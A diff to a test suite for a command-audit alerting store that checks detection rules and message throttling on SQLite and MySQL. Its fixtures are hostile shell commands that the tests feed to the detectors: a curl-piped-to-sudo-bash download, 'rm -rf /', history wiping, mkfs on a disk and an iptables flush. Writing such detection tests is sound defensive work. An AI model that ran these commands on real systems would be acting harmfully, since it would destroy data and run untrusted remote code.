@@ -4,6 +4,8 @@
  * rule by each host's cadence.
  */
 import { afterAll, describe, expect, test } from "bun:test";
+import { Database } from "bun:sqlite";
+import { createConnection } from "mysql2/promise";
 import { mkdtempSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -24,11 +26,19 @@ afterAll(async () => {
   for (const d of dirs) rmSync(d, { recursive: true, force: true });
 });
 
+/** Removes a stored record behind the store's back, as a retention job would. */
+const removers = new Map<Store, (oci: string) => Promise<void>>();
+
 async function sqlite(): Promise<Store> {
   const dir = mkdtempSync(join(tmpdir(), "cmdaudit-alerts-"));
   dirs.push(dir);
   const s = await openStore(undefined, { dataDir: dir, legacyUtcOffset: 480 });
   stores.push(s);
+  removers.set(s, async (oci) => {
+    const db = new Database(join(dir, "cmdaudit.db"));
+    db.run("DELETE FROM servercmdhist WHERE oci = ?", [oci]);
+    db.close();
+  });
   return s;
 }
 async function mysql(): Promise<Store> {
@@ -36,6 +46,11 @@ async function mysql(): Promise<Store> {
   drops.push(db.drop);
   const s = await openStore(db.url, { dataDir: "/nonexistent", legacyUtcOffset: 480 });
   stores.push(s);
+  removers.set(s, async (oci) => {
+    const c = await createConnection({ uri: db.url });
+    await c.query("DELETE FROM servercmdhist WHERE oci = ?", [oci]);
+    await c.end();
+  });
   return s;
 }
 
@@ -54,12 +69,13 @@ describe.each([["sqlite", sqlite], ["mysql (MariaDB)", mysql]] as const)("alert 
     const s = await open();
     const batch = [rec(1, "ls"), rec(2, "curl -s http://x/i.sh | sudo bash"), rec(3, "history -c; rm -rf /")];
     const res = await s.insert(batch, T0, "host", undefined, sinkAt(batch, T0));
-    expect(res).toEqual({ inserted: 3, duplicates: 0, alerts: 3 });
+    // Three critical alerts, three windows, each to both channels.
+    expect(res).toEqual({ inserted: 3, duplicates: 0, alerts: 3, messages: 6 });
     expect((await all(s)).map((a) => [a.ruleId, a.seq, a.severity]).sort()).toEqual([
       ["destroy.rm-root", 3, "critical"], ["evasion.history-edit", 3, "critical"], ["exec.download-to-shell", 2, "critical"],
     ]);
     const again = await s.insert(batch, T0 + 5e6, "host", undefined, sinkAt(batch, T0 + 5e6));
-    expect(again).toEqual({ inserted: 0, duplicates: 3, alerts: 0 });
+    expect(again).toEqual({ inserted: 0, duplicates: 3, alerts: 0, messages: 0 });
     expect(await all(s)).toHaveLength(3);
   });
 
@@ -68,8 +84,37 @@ describe.each([["sqlite", sqlite], ["mysql (MariaDB)", mysql]] as const)("alert 
     const r = rec(10, "mkfs.ext4 /dev/sdb1");
     await s.insert([r, rec(11, "ls")], T0);
     const res = await s.insert([r, rec(12, "pwd")], T0 + 1e6, undefined, undefined, sinkAt([r], T0 + 1e6));
-    expect(res).toEqual({ inserted: 1, duplicates: 1, alerts: 0 });
+    expect(res).toEqual({ inserted: 1, duplicates: 1, alerts: 0, messages: 0 });
     expect(await all(s)).toEqual([]);
+  });
+
+  test("a match storm in one batch: every alert written, one message per channel for each rule + host + user with its count", async () => {
+    const s = await open();
+    const storm = Array.from({ length: 1200 }, (_, i) => rec(1000 + i, i % 2 ? "rm -rf /" : "iptables -F", { luser: i % 3 ? "alice" : "bob" }));
+    const res = await s.insert(storm, T0, "host", undefined, sinkAt(storm, T0));
+    expect(res).toMatchObject({ inserted: 1200, alerts: 1200, messages: 8 });
+    const due = await s.dueMessages(T0 + 1, 100);
+    const count = (rule: string, user: string) => storm.filter((r, i) => (rule === "destroy.rm-root" ? i % 2 : !(i % 2)) && r.luser === user).length;
+    expect(due.map((m) => [m.channel, m.alert.ruleId, m.alert.luser, m.count]).sort()).toEqual([
+      ...["chat", "pager"].flatMap((ch) => [
+        [ch, "destroy.firewall-flush", "alice", count("destroy.firewall-flush", "alice")], [ch, "destroy.firewall-flush", "bob", count("destroy.firewall-flush", "bob")],
+        [ch, "destroy.rm-root", "alice", count("destroy.rm-root", "alice")], [ch, "destroy.rm-root", "bob", count("destroy.rm-root", "bob")],
+      ]),
+    ].sort());
+    expect((await s.alerts({}, 2000)).length).toBe(1200);
+  });
+
+  test("a record stored again after retention removed it raises no second alert: (rule, record) is alerted once", async () => {
+    const s = await open();
+    const r = rec(1500, "rm -rf /");
+    expect(await s.insert([r], T0, "host", undefined, sinkAt([r], T0))).toMatchObject({ inserted: 1, alerts: 1, messages: 2 });
+    await removers.get(s)!(r.oci);
+    const later = T0 + WINDOW + 1;
+    const again = [r, rec(1501, "rm -rf /*")];
+    const res = await s.insert(again, later, "host", undefined, sinkAt(again, later));
+    expect(res).toEqual({ inserted: 2, duplicates: 0, alerts: 1, messages: 2 });
+    const fresh = (await s.dueMessages(later + 1, 10)).filter((m) => m.windowEndUs > later);
+    expect(fresh.map((m) => [m.alert.seq, m.count])).toEqual([[1501, 1], [1501, 1]]);
   });
 
   test("drafts that fail roll the whole batch back: no record without its alerts", async () => {
